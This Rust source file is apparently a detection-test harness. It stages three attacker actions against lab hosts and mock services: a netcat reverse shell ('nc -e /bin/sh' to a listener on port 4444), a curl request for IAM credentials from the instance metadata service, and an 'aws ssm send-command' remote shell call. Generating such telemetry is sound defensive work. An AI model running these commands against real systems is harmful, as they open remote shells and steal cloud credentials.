//! The detections on the host: what attackers do, with the tools they use.

use std::process::{Child, Stdio};
use std::time::{Duration, SystemTime};

use anyhow::{Context, Result};
use lapwing_stage::{IMDS, until};

use super::Scene;

/// Where the attacker waits.
const SHELL_PORT: u16 = 4444;
/// Where the cloud's API answers.
const API_PORT: u16 = 5000;
/// How long a server may take to listen.
const READY: Duration = Duration::from_secs(60);

/// A program that is ended when this is dropped.
struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

impl Running {
    fn wait(mut self) -> Result<()> {
        let child = &mut self.0;
        until("the end of a tool", READY, || Ok(child.try_wait()?)).map(drop)
    }
}

/// `nc -e` from a shell, to a host far away that waits for it.
pub(super) fn reverse_shell(scene: &Scene) -> Result<Option<SystemTime>> {
    let mut waiting = scene.hosts.far.command("nc.traditional");
    let port = SHELL_PORT.to_string();
    waiting.args(["-l", "-p", &port]).stdin(Stdio::piped());
    let mut waiting = waiting.spawn().context("nc.traditional")?;
    // What the attacker types.
    let typed = waiting.stdin.take();
    let waiting = Running(waiting);
    listening(scene, SHELL_PORT)?;
    // People type `nc`, which is a link to one of several netcats.
    let folder = scene.agent.folder().join("bin");
    std::fs::create_dir_all(&folder)?;
    std::os::unix::fs::symlink("/bin/nc.traditional", folder.join("nc"))?;
    let far = scene.hosts.far.address();
    let script = format!("PATH={}:$PATH; nc -e /bin/sh {far} {port}", folder.display());
    let shell = Running(scene.hosts.near.shell("bash", &script)?);
    if let Some(mut typed) = typed {
        std::io::Write::write_all(&mut typed, b"id\nexit\n")?;
    }
    shell.wait()?;
    drop(waiting);
    Ok(None)
}

/// `curl` to the address of the instance metadata service, where a server answers.
pub(super) fn imds_request(scene: &Scene) -> Result<Option<SystemTime>> {
    let folder = scene.agent.folder().join("imds");
    let role = folder.join("latest/meta-data/iam/security-credentials");
    std::fs::create_dir_all(&role)?;
    std::fs::write(role.join("web"), "{\"Code\": \"Success\", \"AccessKeyId\": \"ASIAEXAMPLE\"}\n")?;
    let mut server = scene.hosts.far.command("python3");
    server.args(["-m", "http.server", "--bind", IMDS, "80"]).current_dir(folder);
    let _server = Running(server.spawn().context("python3")?);
    listening(scene, 80)?;
    let script = format!("curl -s http://{IMDS}/latest/meta-data/iam/security-credentials/web");
    Running(scene.hosts.near.shell("sh", &script)?).wait()?;
    Ok(None)
}

/// `aws ssm send-command` against a server that answers as AWS does.
pub(super) fn send_command(scene: &Scene) -> Result<Option<SystemTime>> {
    let port = API_PORT.to_string();
    let mut server = scene.hosts.far.command(&program(scene, "moto_server"));
    server.args(["-H", scene.hosts.far.address(), "-p", &port]);
    let _server = Running(server.spawn().context("moto_server")?);
    listening(scene, API_PORT)?;
    let mut aws = scene.hosts.near.command(&program(scene, "aws"));
    aws.args(["ssm", "send-command", "--instance-ids", "i-0123456789abcdef0"]);
    aws.args(["--document-name", "AWS-RunShellScript", "--parameters", "commands=[\"id\"]"]);
    aws.args(["--endpoint-url", &format!("http://{}:{port}", scene.hosts.far.address())]);
    aws.envs([
        ("AWS_ACCESS_KEY_ID", "demo"),
        ("AWS_SECRET_ACCESS_KEY", "demo"),
        ("AWS_DEFAULT_REGION", "eu-central-1"),
    ]);
    Running(aws.spawn().context("aws")?).wait()?;
    Ok(None)
}

fn program(scene: &Scene, name: &str) -> String {
    scene.aws.program(name).display().to_string()
}

fn listening(scene: &Scene, port: u16) -> Result<()> {
    until("a server", READY, || Ok(scene.hosts.far.listens(port)?.then_some(())))
}
